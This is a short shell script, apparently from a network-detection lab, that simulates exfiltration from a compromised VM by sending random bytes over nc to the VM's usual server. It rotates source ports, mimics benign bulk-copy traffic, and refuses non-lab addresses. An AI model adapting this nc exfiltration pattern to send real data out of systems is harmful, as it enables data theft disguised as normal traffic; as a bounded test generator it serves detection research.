# Known-peer attack: high-entropy exfiltration to the VM's usual server: random bytes (openssl rand)
# in PIECE_KIB pieces over nc to the same host and port its benign bulk copy uses, about 2 pieces a
# second, for SECONDS, each from the next source port in PORT_LO..PORT_HI (the label's reserved block).
# Bounded in count and time.
# Usage (inside the compromised VM): exfil-known-peer.sh TARGET_IP PORT SECONDS PIECE_KIB PORT_LO PORT_HI
set -u
target="$1" port="$2" secs="$3" kib="$4" lo="$5" hi="$6"
case "$target" in 10.203.0.*) ;; *) echo "exfil-known-peer: $target is not a lab address" >&2; exit 2 ;; esac
end=$(( $(date +%s) + ${secs%.*} ))
for i in $(seq 0 $(( ${secs%.*} * 2 ))); do
  [ "$(date +%s)" -lt "$end" ] || break
  # A new source port each piece: the last one may still be in TIME_WAIT (nc -N closes first).
  openssl rand $(( kib * 1024 )) | timeout 3 nc -N -w 2 -p $(( lo + i % (hi - lo + 1) )) "$target" "$port" || true
  sleep 0.5
done
